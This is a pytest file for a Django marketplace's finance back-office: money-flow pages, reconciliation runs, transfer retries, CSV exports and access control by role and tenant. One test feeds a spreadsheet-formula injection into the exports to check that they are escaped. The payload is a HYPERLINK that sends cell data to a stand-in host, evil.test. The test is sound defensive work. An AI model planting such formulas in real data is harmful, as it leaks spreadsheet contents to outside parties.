"""Finance pages: for the finance role and staff only (everyone else, and other networks, get 404); the money-flow
picture, reconciliation drill-down, retrying a transfer and the CSV exports."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.utils import timezone

from apps.accounts.roles import Role
from apps.core.money import Money
from apps.orders.models import WorkItem
from apps.orders.services.transitions import order_transition
from apps.orders.status import OrderStatus
from apps.payouts.ledger.posting import Line, journal_entry_post, network_account
from apps.payouts.models import (
    AccountKind,
    EntryKind,
    OrderMoney,
    Posting,
    ProfitShareSplit,
    ReconciliationRun,
    RunStatus,
    Transfer,
    TransferStatus,
)
from apps.payouts.payments.charges import charge_record
from apps.payouts.reconciliation.runs import reconciliation_run
from apps.payouts.transfers.participant_transfers import transfer_release_for_work_item, transfer_send
from apps.suppliers.models import AssetOwner
from tests.conftest import sign_in
from tests.payouts.money_builders import finish_work_item, make_order, make_participants, pay, platform_post
from tests.suppliers.factories import make_member


@pytest.fixture
def finance_client(client_a, tenant_a, make_user, money_a):
    user = make_user(tenant_a, Role.FINANCE)
    connection.set_tenant(tenant_a)
    return sign_in(client_a, tenant_a, user)


def _settled_with_failing_transfer():
    (owner, stranger), _ = make_participants(owners=2, carriers=0)
    order = make_order(total_minor=10_000, items=[(owner, 5_000), (stranger, 2_000)])
    charge_record(charge_id=pay(order)["id"])
    for status in (OrderStatus.PLANNED, OrderStatus.IN_PRODUCTION):
        order_transition(order_id=order.pk, to=status, actor_label="test")
    first, second = WorkItem.objects.filter(order=order).order_by("pk")
    finish_work_item(first)
    transfer_send(transfer_id=transfer_release_for_work_item(work_item_id=first.pk).pk)
    finish_work_item(second)
    failing = transfer_release_for_work_item(work_item_id=second.pk)
    Transfer.objects.filter(pk=failing.pk).update(destination="acct_unknown")
    transfer_send(transfer_id=failing.pk)
    failing.refresh_from_db()
    assert failing.status == TransferStatus.PENDING and failing.attempts == 1
    return order, failing


def test_finance_home_shows_balances_failing_transfers_and_runs(finance_client):
    order, failing = _settled_with_failing_transfer()
    reconciliation_run(trigger="test", grace=timedelta(0))
    response = finance_client.get("/backoffice/finance/")
    assert response.status_code == 200
    body = response.content.decode()
    assert "Platform cash at Stripe" in body
    assert order.reference in body
    assert "No such destination: &#x27;acct_unknown&#x27;" in body
    assert f"/backoffice/finance/transfers/{failing.pk}/retry/" in body
    assert ReconciliationRun.objects.count() == 1 and "/backoffice/finance/reconciliation/" in body


def test_retrying_a_failing_transfer_from_the_page_resets_its_backoff(
    finance_client, django_capture_on_commit_callbacks
):
    _, failing = _settled_with_failing_transfer()
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = finance_client.post(f"/backoffice/finance/transfers/{failing.pk}/retry/")
    assert response.status_code == 302
    failing.refresh_from_db()
    assert failing.attempts == 0 and failing.status == TransferStatus.PENDING
    assert len(callbacks) == 1, "the send is enqueued after commit"


def test_order_money_page_draws_the_flow_and_lists_entries(finance_client):
    order, _ = _settled_with_failing_transfer()
    response = finance_client.get(f"/backoffice/finance/orders/{order.pk}/")
    assert response.status_code == 200
    body = response.content.decode()
    assert 'id="money-flow"' in body
    assert body.count("<path ") >= 3  # customer → platform, platform → participant, platform → Stripe fees
    assert "Customer → Platform: €100.00" in body
    assert "Stripe fees" in body and "Held (not settled)" in body
    assert "Customer payment" in body  # the charge entry
    # Revenue is booked at settlement: until then the commission is not shown as Stripe's fee, negative.
    assert "<dt>commission</dt><dd>booked when the order settles</dd>" in body
    # The policy and what the customer paid are said once above the statements, not again in every row.
    assert body.count("Policy version") == 1


def test_a_settled_orders_commission_is_shown_as_money(finance_client):
    order, _ = _settled_with_failing_transfer()
    OrderMoney.objects.filter(order=order).update(settled_at=timezone.now())
    body = finance_client.get(f"/backoffice/finance/orders/{order.pk}/").content.decode()
    commission = body.split("<dt>commission</dt><dd>", 1)[1].split("</dd>", 1)[0]
    assert commission.lstrip("-").startswith("€")


def test_the_platforms_share_is_a_row_and_the_shares_add_up_to_paid_less_fee(finance_client):
    order, _ = _settled_with_failing_transfer()
    split = ProfitShareSplit.objects.get(order=order, is_current=True)
    body = finance_client.get(f"/backoffice/finance/orders/{order.pk}/").content.decode()
    row = body.split('<tr class="platform-share">', 1)[1].split("</tr>", 1)[0]
    assert "commission" in row and Money(split.platform_commission_minor, "EUR").format() in row
    shared_out = body.split('id="shared-out">', 1)[1].split("</td>", 1)[0]
    assert shared_out == Money(split.paid_minor - split.stripe_fee_minor, "EUR").format()


def test_reconciliation_page_drills_down_to_the_order(finance_client):
    order, _ = _settled_with_failing_transfer()
    platform_post("/v1/refunds", charge=order.charge_id, amount=100)
    run = reconciliation_run(trigger="test", grace=timedelta(0))
    assert run.status == RunStatus.DIFFERENCES
    response = finance_client.get(f"/backoffice/finance/reconciliation/{run.pk}/")
    body = response.content.decode()
    assert response.status_code == 200
    assert "At Stripe, missing in the ledger" in body
    partial = finance_client.get(f"/backoffice/finance/reconciliation/{run.pk}/", HTTP_HX_REQUEST="true")
    assert (
        partial.status_code == 200
        and b"<html" not in partial.content
        and b'id="run-status"' in partial.content
    )


def test_reconciliation_page_says_what_is_in_flight(finance_client):
    order, _ = _settled_with_failing_transfer()
    platform_post("/v1/refunds", charge=order.charge_id, amount=100)
    run = reconciliation_run(trigger="test")
    body = finance_client.get(f"/backoffice/finance/reconciliation/{run.pk}/").content.decode()
    assert run.in_flight == 1 and "At Stripe, missing in the ledger" not in body
    assert "In flight" in body and "the next run checks them" in body


def test_reconcile_now_starts_a_run_in_the_background(finance_client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = finance_client.post("/backoffice/finance/reconcile/")
    run = ReconciliationRun.objects.get()
    assert response.status_code == 302 and response.url == f"/backoffice/finance/reconciliation/{run.pk}/"
    assert run.status == RunStatus.RUNNING and run.trigger == "manual"
    assert len(callbacks) == 1
    page = finance_client.get(response.url)
    assert b'hx-trigger="every 2s"' in page.content
    flash = page.content.decode().split('<ul class="messages"')[1].split("</ul>")[0]
    assert (
        f"You asked for reconciliation {run.pk}" in flash and "started" not in flash
    )  # the run page polls its state


def test_ledger_and_statement_exports_cover_the_period(finance_client):
    order, _ = _settled_with_failing_transfer()
    response = finance_client.get("/backoffice/finance/export/ledger.csv")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["entry", "effective_at", "kind"]
    assert len(rows) - 1 == Posting.objects.count()
    assert sum(int(row[10]) for row in rows[1:]) == 0, "the export of a balanced ledger sums to zero"
    statements = finance_client.get("/backoffice/finance/export/statements.csv")
    rows = list(csv.reader(io.StringIO(b"".join(statements.streaming_content).decode())))
    assert len(rows) == 3 and all(row[0] == order.reference for row in rows[1:])
    empty = finance_client.get("/backoffice/finance/export/ledger.csv?start=2001-01-01&end=2001-01-31")
    assert len(list(csv.reader(io.StringIO(b"".join(empty.streaming_content).decode())))) == 1
    page = finance_client.get("/backoffice/finance/statements/")
    assert page.status_code == 200 and order.reference.encode() in page.content


@pytest.mark.parametrize("role", [Role.CUSTOMER, Role.SUPPLIER_MEMBER, Role.CARRIER_MEMBER])
def test_other_roles_get_404_everywhere(client_a, tenant_a, make_user, money_a, role):
    order, failing = _settled_with_failing_transfer()
    run = reconciliation_run(trigger="test", grace=timedelta(0))
    user = make_member(failing.asset_owner) if role == Role.SUPPLIER_MEMBER else make_user(tenant_a, role)
    connection.set_tenant(tenant_a)
    sign_in(client_a, tenant_a, user)
    for url in (
        "/backoffice/finance/",
        f"/backoffice/finance/orders/{order.pk}/",
        f"/backoffice/finance/reconciliation/{run.pk}/",
        "/backoffice/finance/statements/",
        "/backoffice/finance/export/ledger.csv",
        "/backoffice/finance/export/statements.csv",
    ):
        assert client_a.get(url).status_code == 404, url
    assert client_a.post(f"/backoffice/finance/transfers/{failing.pk}/retry/").status_code == 404
    assert client_a.post("/backoffice/finance/reconcile/").status_code == 404


def test_staff_may_use_the_finance_pages_and_anonymous_visitors_are_sent_to_sign_in(
    client_a, tenant_a, make_user, money_a
):
    assert client_a.get("/backoffice/finance/").status_code == 302
    sign_in(client_a, tenant_a, make_user(tenant_a, Role.STAFF))
    assert client_a.get("/backoffice/finance/").status_code == 200


def test_another_networks_orders_runs_and_transfers_are_404(finance_client, client_b, tenant_b, make_user):
    order, failing = _settled_with_failing_transfer()
    run = reconciliation_run(trigger="test", grace=timedelta(0))
    sign_in(client_b, tenant_b, make_user(tenant_b, Role.FINANCE))
    assert client_b.get("/backoffice/finance/").status_code == 200
    assert client_b.get(f"/backoffice/finance/orders/{order.pk}/").status_code == 404
    assert client_b.get(f"/backoffice/finance/reconciliation/{run.pk}/").status_code == 404
    assert client_b.post(f"/backoffice/finance/transfers/{failing.pk}/retry/").status_code == 404
    assert order.reference.encode() not in client_b.get("/backoffice/finance/statements/").content


def test_exports_escape_cells_that_would_run_as_spreadsheet_formulas(finance_client):
    """Issue 13 item 13: a supplier named like a formula, and a memo starting with @, land in finance's exports
    as text (prefixed with a quote), while negative amounts stay numbers."""
    order, _ = _settled_with_failing_transfer()
    formula = '=HYPERLINK("http://evil.test/?x="&A1, "Invoice")'
    owner_id = WorkItem.objects.filter(order=order).order_by("pk").first().asset_owner_id
    AssetOwner.objects.filter(pk=owner_id).update(name=formula)
    journal_entry_post(
        kind=EntryKind.SETTLEMENT,
        lines=[
            Line(network_account(AccountKind.PLATFORM_REVENUE, "EUR"), 125),
            Line(network_account(AccountKind.STRIPE_FEES, "EUR"), -125),
        ],
        key="test:formula-memo",
        memo="@SUM(A1:A9)",
    )

    statements = finance_client.get("/backoffice/finance/export/statements.csv")
    rows = list(csv.reader(io.StringIO(b"".join(statements.streaming_content).decode())))
    participants = [row[2] for row in rows[1:]]
    assert "'" + formula in participants and formula not in participants

    ledger = finance_client.get("/backoffice/finance/export/ledger.csv")
    rows = list(csv.reader(io.StringIO(b"".join(ledger.streaming_content).decode())))
    memos = {row[4] for row in rows[1:]}
    assert "'@SUM(A1:A9)" in memos and "@SUM(A1:A9)" not in memos
    negative = [row for row in rows[1:] if row[10] == "-125"]
    assert negative and negative[0][11] == "-1.25", "negative amounts are written as plain numbers"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_a_disputes_own_stripe_status_is_shown_next_to_ours(finance_client):
    """Won, warning_closed and prevented are all "won" for the money (nothing stays withdrawn); finance sees which."""
    from apps.payouts.payments.disputes import dispute_record
    from tests.payouts.money_builders import control

    (owner,), _ = make_participants(owners=1, carriers=0)
    order = make_order(total_minor=10_000, items=[(owner, 5_000)])
    charge = pay(order)
    charge_record(charge_id=charge["id"])
    inquiry = control(f"charges/{charge['id']}/dispute", status="warning_needs_response")
    dispute_record(dispute=inquiry)
    dispute_record(dispute=platform_post(f"/v1/disputes/{inquiry['id']}/close"))

    body = finance_client.get(f"/backoffice/finance/orders/{order.pk}/").content.decode()

    assert "Won (Stripe: warning_closed)" in body
